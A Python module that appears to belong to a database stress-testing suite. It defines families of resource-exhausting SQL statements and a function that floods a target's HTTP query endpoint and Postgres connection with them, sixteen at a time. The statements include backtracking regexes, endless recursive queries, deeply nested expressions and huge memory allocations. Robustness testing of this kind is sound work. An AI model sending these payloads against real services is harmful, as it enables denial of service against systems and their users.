"""Attacks by SELECT: a row of `STATEMENTS` for each family of statements, `flood` sends them.

The statements are over the tables of both kinds of database (`films`, `notes`): each family has
some without any table.
"""

from collections.abc import Callable, Sequence

from siege.attack import Target, at_once
from siege.clients import posted, selected

AT_ONCE = 16
_ENDLESS = "SELECT count(*) FROM generate_series(1, 1000000000000)"
_WIDE = ", ".join(f"n + {each} AS c{each}" for each in range(300))


def _nested(opening: str, depth: int, middle: str, closing: str) -> str:
    return f"SELECT {opening * depth}{middle}{closing * depth}"


def _joins(count: int, join: str) -> str:
    return f"SELECT 1 FROM {join.join(f'(VALUES (1)) t{each}(a)' for each in range(count))}"


def _chain(word: str, count: int) -> str:
    return f"SELECT 1 WHERE {f' {word} '.join(f'{each} = {each}' for each in range(count))}"


def _subqueries(depth: int) -> str:
    made = "SELECT 1 AS a"
    for each in range(depth):
        made = f"SELECT (SELECT max(a) FROM s{each}) + a AS a FROM ({made}) s{each}"
    return made


def _doubling(depth: int) -> str:
    """Each named twice by the next: 2 to the power of the depth, if they are put in place."""
    names = [f"w{each} AS (SELECT * FROM w{each - 1} a, w{each - 1} b)" for each in range(1, depth)]
    return f"WITH {', '.join(['w0 AS (SELECT 1)', *names])} SELECT count(*) FROM w{depth - 1}"


STATEMENTS: dict[str, Sequence[str]] = {
    "nested types": (
        _nested("char(", 190, "1", ")"),
        _nested("DECIMAL(", 190, "1", ")"),
        _nested("'1'::char(", 190, "1", ")"),
        _nested("'1'::DECIMAL(", 60, "1", ")"),
        _nested("numeric(", 120, "", ""),
    ),
    "nested expressions": (
        _nested("(", 199, "1", ")"),
        _nested("CASE WHEN 1 = 1 THEN ", 900, "1", " END"),
        _nested("- ", 9000, "1", ""),
        _nested("NOT ", 9000, "true", ""),
        _nested("upper(", 190, "'a'", ")"),
        _nested("coalesce(1, ", 190, "2", ")"),
        _nested("ARRAY[", 190, "1", "]"),
        _nested("(SELECT ", 190, "1", ")"),
        _nested("1 IN (", 190, "1", ")"),
        "SELECT " + "1" + "::int::text" * 2500,
        "SELECT " + " || ".join(["'a'"] * 6000),
        "SELECT " + " + ".join(["1"] * 9000),
    ),
    "joins": (
        _joins(60, " JOIN "),
        _joins(120, " CROSS JOIN "),
        _joins(200, ", "),
        _joins(60, " NATURAL JOIN "),
        "SELECT 1 FROM (VALUES (1)) a(x)" + " FULL JOIN (VALUES (1)) b(x) USING (x)" * 40,
        "SELECT count(*) FROM " + ", ".join(f"generate_series(1, 1000) s{n}" for n in range(6)),
        "SELECT 1 FROM (VALUES (1)) t0(a)"
        + "".join(f" LEFT JOIN (VALUES (1)) t{n}(a) ON t{n}.a = t0.a" for n in range(1, 90)),
    ),
    "chains and subqueries": (
        _chain("AND", 4000),
        _chain("OR", 4000),
        _subqueries(40),
        _doubling(30),
        f"SELECT 1 WHERE 1 IN ({', '.join(map(str, range(9000)))})",
        " UNION ".join(["SELECT 1"] * 3000),
        " EXCEPT ALL ".join(["(SELECT 1)"] * 190),
        "SELECT " + ", ".join(["count(*) OVER (ORDER BY 1)"] * 1200),
        "SELECT " + ", ".join(f"{n} AS a{n}" for n in range(3000)),
        "SELECT 1 GROUP BY CUBE (" + ", ".join(map(str, range(1, 30))) + ")",
        "VALUES " + ", ".join(["(1)"] * 9000),
    ),
    "patterns": (
        "SELECT repeat('a', 40) || 'b' ~ '^(a|aa)+$'",
        "SELECT repeat('x', 9999) ~ '(x+x+)+y'",
        "SELECT repeat('a', 9999) SIMILAR TO '(a|a)*(a|aa)*b'",
        f"SELECT repeat('a', 20000) LIKE '{'%a' * 200}%b'",
        f"SELECT repeat('ab', 20000) ILIKE '{'%a_' * 200}b'",
        "SELECT regexp_replace(repeat('a', 50000), '(a*)*b', 'x', 'g')",
        "SELECT regexp_matches(repeat('a', 20000), '(a?){300}a{300}', 'g')",
        "SELECT regexp_split_to_array(repeat('a ', 90000), '( |a)*')",
        f"SELECT 'a' ~ '{'(' * 180}a{')*' * 180}'",
        "SELECT 'a' ~ '((a{1,200}){1,200}){1,200}'",
        "SELECT count(*) FROM generate_series(1, 5000) n WHERE repeat(n::text, 500) ~ '(1*2*)*3'",
        "SELECT substring(repeat('a', 30000) from '(a+)+$')",
        "SELECT repeat('a', 900) ~ '(.*)(.*)(.*)(.*)(.*)(.*)[^a]\\1'",
    ),
    "recursion and series": (
        "WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n FROM c) SELECT n FROM c",
        "WITH RECURSIVE c(s) AS (SELECT 'a' UNION ALL SELECT s || s FROM c) SELECT s FROM c",
        "WITH RECURSIVE c(n) AS (SELECT 1 UNION SELECT n + m FROM c, generate_series(1, 99) m)"
        " SELECT count(*) FROM c",
        _ENDLESS,
        "SELECT generate_series(1, 1000000000)",
        "SELECT count(*) FROM generate_series('2000-01-01'::timestamp, '9999-01-01', '1 second')",
        "SELECT array_agg(n) FROM generate_series(1, 100000000) n",
        "SELECT n FROM generate_series(1, 100000000) n ORDER BY md5(n::text)",
    ),
    "wide results": (
        f"SELECT {_WIDE} FROM generate_series(1, 10000) n",
        f"SELECT {_WIDE.replace('n +', 'md5(n::text) || ')} FROM generate_series(1, 10000) n",
        "SELECT n, repeat('x', 6000) FROM generate_series(1, 10000) n",
        "SELECT n, repeat(chr(1), 900) FROM generate_series(1, 10000) n",
        "SELECT jsonb_build_object('a', n, 'b', repeat('x', 99)) FROM generate_series(1, 10000) n",
        "SELECT (n / 7.0)::numeric, now(), n::float8 FROM generate_series(1, 10000) n",
    ),
    "long texts": (
        "SELECT repeat('a', 8000000) LIKE '%a%a%a%a%b'",
        "SELECT length(trim(repeat(' ', 8000000) || 'x' || repeat(' ', 8000000)))",
        "SELECT length(trim('ab' from repeat('ab', 4000000)))",
        "SELECT length(replace(repeat('ab', 4000000), 'a', 'bb'))",
        "SELECT length(initcap(repeat('ab ', 2500000)))",
        "SELECT strpos(repeat('a', 8000000), repeat('a', 4000000) || 'b')",
        "SELECT length(translate(repeat('abc', 2500000), 'abc', 'xyz'))",
        "SELECT split_part(repeat('a,', 4000000), ',', 3999999)",
        "SELECT md5(repeat('a', 8000000)) FROM generate_series(1, 1000)",
        "SELECT array_length(string_to_array(repeat('a,', 4000000), ','), 1)",
        "SELECT repeat('1', 8000000)::numeric",
        "SELECT ('[' || repeat('1,', 3000000) || '1]')::jsonb -> 5",
        "SELECT (repeat('[', 900000) || repeat(']', 900000))::jsonb",
    ),
    "memory": (
        "SELECT repeat('a', 1000000000)",
        "SELECT string_agg(repeat('a', 1000000), ',') FROM generate_series(1, 10000)",
        "SELECT array_agg(repeat('a', 100000)) FROM generate_series(1, 100000)",
        "SELECT jsonb_agg(repeat('a', 100000)) FROM generate_series(1, 100000)",
        "SELECT count(DISTINCT md5(n::text)) FROM generate_series(1, 50000000) n",
        "SELECT lpad('', 2000000000, 'x')",
        "SELECT 10::numeric ^ 100000",
        "SELECT exp(9999::numeric) * exp(9999::numeric) / 3",
        "SELECT sum(10::numeric ^ n) FROM generate_series(1, 9000) n",
        "SELECT array_fill(1, ARRAY[100000000])",
    ),
}


def flood(statements: Sequence[str]) -> Callable[[Target], None]:
    """Send them at once and again, over HTTP and the Postgres wire."""

    def run(target: Target) -> None:
        position = list(range(AT_ONCE))

        def one(_: Target, number: int) -> None:
            sql = statements[position[number] % len(statements)]
            position[number] += 1
            by_wire = number % 4 == 0
            if by_wire:
                target.note(f"wire {selected(target, sql)}")
            else:
                target.note(f"http {posted(target, '/v1/query', {'statement': sql})}")

        at_once(target, AT_ONCE, one)

    return run


def endless(target: Target) -> None:
    """Sixteen statements that never end, by one user."""
    flood([_ENDLESS])(target)
